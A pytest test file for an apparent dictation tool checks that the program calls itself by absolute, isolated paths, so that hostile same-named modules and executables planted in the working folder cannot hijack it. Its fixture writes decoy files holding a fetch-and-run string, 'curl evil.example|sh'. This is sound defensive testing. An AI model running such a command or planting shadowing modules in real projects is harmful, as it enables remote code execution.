"""Every start of ourselves runs this Dictation, whatever lies in the folder where it is called."""

from __future__ import annotations

import os
import runpy
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from dictation import cli, frozen_start, own_call
from dictation.app.verbs import fill_verb
from dictation.desktop.session import desktop_entry
from dictation.engines import engine_life
from dictation.frozen_start import give_back_the_environment
from dictation.own_call import module_command, own_command

HOSTILE = 'import pathlib; pathlib.Path({mark!r}).touch(); print(\'{{"command": "curl evil.example|sh"}}\')'


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder whose files would like to be us; the file ``mark`` in it says that one was."""
    folder = tmp_path / "repository"
    code = HOSTILE.format(mark=str(folder / "mark"))
    for name in ("dictation/__init__.py", "dictation/__main__.py", "dictation/cli.py", "json.py", "argparse.py"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(code)
    (folder / "dictation.exe").write_text("#!/bin/sh\ntouch mark\n")
    (folder / "dictation.exe").chmod(0o755)
    monkeypatch.chdir(folder)
    monkeypatch.setenv("PATH", f".:{os.environ['PATH']}")
    return folder


@pytest.fixture(params=["with its script", "without a script"])
def installed(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """How this Dictation stands on the machine."""
    if request.param == "without a script":
        monkeypatch.setattr(own_call, "NAMES", ())


def test_our_own_call_is_absolute_and_isolated(installed: None, hostile: Path) -> None:
    call = own_command()
    assert Path(call[0]).is_absolute() and all(Path(each).is_absolute() or each[0] == "-" for each in call[:-1])
    done = subprocess.run([*call, "--version"], capture_output=True, text=True, timeout=60)
    assert not (hostile / "mark").exists() and done.stdout.startswith("dictation "), done


def test_the_shell_key_makes_its_command_by_this_dictation(installed: None, hostile: Path, home: Path) -> None:
    made = fill_verb._by_ourselves("git status", "bash")
    assert not (hostile / "mark").exists() and made["command"] == "git status"


def test_the_widget_and_the_menu_entry_call_this_dictation(installed: None, hostile: Path, home: Path) -> None:
    for text in (fill_verb.widget("bash", None), desktop_entry._entry(None)):
        assert shlex.join(own_command()) in text.replace("'", "").replace('"', "")
    assert not (hostile / "mark").exists()


@pytest.mark.parametrize("module", [engine_life.CHILD, "dictation"])
def test_a_module_of_ours_is_not_looked_for_in_the_current_folder(hostile: Path, module: str) -> None:
    subprocess.run([*module_command(module), "--version"], capture_output=True, stdin=subprocess.DEVNULL, timeout=60)
    assert not (hostile / "mark").exists()


def test_every_start_of_python_in_the_product_is_isolated() -> None:
    root = Path(own_call.__file__).parents[1]
    for file in sorted((root / "dictation").rglob("*.py")):
        text = file.read_text(encoding="utf-8")
        if file.name != "own_call.py":
            assert "sys.executable" not in text, f"{file} starts Python on its own, which is in the current folder"
    assert sys.executable in module_command("x")[0]


@pytest.fixture
def frozen(hostile: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The program PyInstaller makes, called by its bare name where another of this name lies; the program's path."""
    folder = hostile / "again"
    folder.mkdir()
    (hostile / "dictation.exe").rename(folder / "dictation")
    monkeypatch.chdir(folder)
    program = hostile / "lib" / "dictation"
    monkeypatch.setattr(sys, "frozen", True, raising=False)
    monkeypatch.setattr(sys, "executable", os.fspath(program))
    monkeypatch.setattr(sys, "argv", ["dictation", "toggle"])
    return program


def test_a_frozen_dictation_is_called_by_its_own_path_alone(frozen: Path) -> None:
    assert own_command() == [os.fspath(frozen)]


@pytest.mark.parametrize("module", [engine_life.CHILD, "dictation.own_call"])
def test_a_frozen_dictation_runs_a_module_as_its_python_would(
    frozen: Path, module: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    ran: list[tuple[str, list[str]]] = []
    monkeypatch.setattr(runpy, "run_module", lambda name, **how: ran.append((name, sys.argv[1:])))
    monkeypatch.setattr(sys, "argv", [*module_command(module), "word"])
    assert frozen_start.main() == 0 and ran == [(module, ["word"])]


@pytest.mark.parametrize("words", [["toggle"], [], ["-P"], ["-P", "-m"], ["-P", "-m", "json.tool"], ["--version"]])
def test_whatever_else_a_frozen_dictation_is_told_is_a_call(
    frozen: Path, words: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: list[list[str]] = []

    def call() -> int:
        calls.append(sys.argv[1:])
        return 7

    monkeypatch.setattr(cli, "main", call)
    monkeypatch.setattr(sys, "argv", ["dictation", *words])
    assert frozen_start.main() == 7 and calls == [words]


@pytest.mark.parametrize("before", [None, "", "/opt/libraries"])
def test_what_a_frozen_dictation_starts_loads_the_libraries_of_the_system(before: str | None) -> None:
    started = {"PATH": "/bin"} | ({} if before is None else {"LD_LIBRARY_PATH": before})
    environment = started | {"LD_LIBRARY_PATH": "/usr/lib/dictation/_internal", "_PYI_ARCHIVE_FILE": "x"}
    if before is not None:
        environment["LD_LIBRARY_PATH_ORIG"] = before
    give_back_the_environment(environment)
    assert environment == started
